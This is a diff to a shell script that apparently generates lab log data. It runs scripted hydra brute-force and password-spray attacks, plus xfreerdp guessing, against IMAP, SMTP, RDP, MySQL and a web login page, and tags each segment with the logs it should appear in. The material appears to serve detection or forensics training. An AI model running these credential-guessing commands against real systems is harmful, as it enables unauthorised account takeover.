@@ -1,7 +1,7 @@
 # Password guessing and what follows it, against sshd, Dovecot, Postfix, vsftpd, xrdp, MariaDB and the portal.
 
 # -I: ignore an old restore file; -t: connections at once; -f: stop at the first success
-guess="hydra -I -q -w 10"
+guess="timeout 90 hydra -I -q -w 10"
 
 printf '123456\npassword\nadmin@123\nAbc@12345\nqwerty\n1q2w3e4r\nVietnam@123\nAdmin@2025\nroot\ntoor\n111111\nletmein\nP@ssw0rd\nubuntu\nadmin123\nxa@2026\n' > /tmp/passwords.txt
 printf 'admin\ntest\noracle\nnvan\nttbinh\nlthoa\npmduc\nftpuser\npostgres\nquantri\nguest\nketoan\n' > /tmp/users.txt
@@ -43,12 +43,12 @@ cut_end ssh-probe auth.log
 
 from 198.51.100.7
 cut_begin imap-bruteforce
-$guess -t 4 -l lthoa -P /tmp/passwords.txt imap://$SERVER > /dev/null 2>&1 || true
+$guess -t 16 -l lthoa -P /tmp/passwords.txt imap://$SERVER > /dev/null 2>&1 || true
 cut_end imap-bruteforce mail.log auth.log
 
 from 198.51.100.8
 cut_begin imap-spray
-$guess -t 4 -L /tmp/users.txt -p 'Vietnam@2026' imap://$SERVER > /dev/null 2>&1 || true
+$guess -t 12 -L /tmp/users.txt -p 'Vietnam@2026' imap://$SERVER > /dev/null 2>&1 || true
 cut_end imap-spray mail.log auth.log
 
 from 198.51.100.7
@@ -57,7 +57,9 @@ $guess -t 2 -l nvan -P /tmp/passwords.txt smtp://$SERVER > /dev/null 2>&1 || tru
 cut_end smtp-bruteforce mail.log auth.log
 
 cut_begin mail-takeover
-$guess -t 2 -f -l ttbinh -P /tmp/passwords2.txt imap://$SERVER > /dev/null 2>&1 || true
+head -n 9 /tmp/passwords.txt > /tmp/passwords3.txt
+$guess -t 9 -l ttbinh -P /tmp/passwords3.txt imap://$SERVER > /dev/null 2>&1 || true
+sleep 3
 imap_login ttbinh '123456a@' 198.51.100.7
 for host in 72 73 74; do
     imap_login ttbinh '123456a@' 198.51.100.$host
@@ -82,9 +84,8 @@ cut_end ftp-webshell vsftpd.log auth.log
 
 cut_begin rdp-bruteforce
 for word in 123456 admin@123 Abc@12345 qwerty Vietnam@123 P@ssw0rd; do
-    timeout 8 xfreerdp /v:$SERVER /u:quantri /p:$word /cert:ignore +auth-only /sec:rdp > /dev/null 2>&1 || true
+    timeout 8 xvfb-run -a xfreerdp /v:$SERVER /u:quantri /p:$word /cert:ignore /sec:rdp > /dev/null 2>&1 || true
 done
-$guess -t 1 -l quantri -P /tmp/passwords.txt rdp://$SERVER > /dev/null 2>&1 || true
 cut_end rdp-bruteforce xrdp-sesman.log auth.log syslog
 
 cut_begin mysql-bruteforce
@@ -96,9 +97,9 @@ cut_end mysql-bruteforce mysql/error.log
 from 198.51.100.7
 cut_begin web-login-bruteforce
 $guess -t 4 -l vanthu -P /tmp/passwords.txt $SERVER http-post-form \
-    '/dang-nhap.php:ten=^USER^&mat_khau=^PASS^:S=Location' > /dev/null 2>&1 || true
+    '/dang-nhap.php:ten=^USER^&mat_khau=^PASS^:F=Sai' > /dev/null 2>&1 || true
 $guess -t 4 -l admin -P /tmp/passwords.txt $SERVER http-post-form \
-    '/dang-nhap.php:ten=^USER^&mat_khau=^PASS^:S=Location' > /dev/null 2>&1 || true
+    '/dang-nhap.php:ten=^USER^&mat_khau=^PASS^:F=Sai' > /dev/null 2>&1 || true
 curl -s -o /dev/null --interface 198.51.100.7 -d 'ten=vanthu&mat_khau=Vanthu@2026' http://$SERVER/dang-nhap.php || true
 cut_end web-login-bruteforce nginx/access.log
 
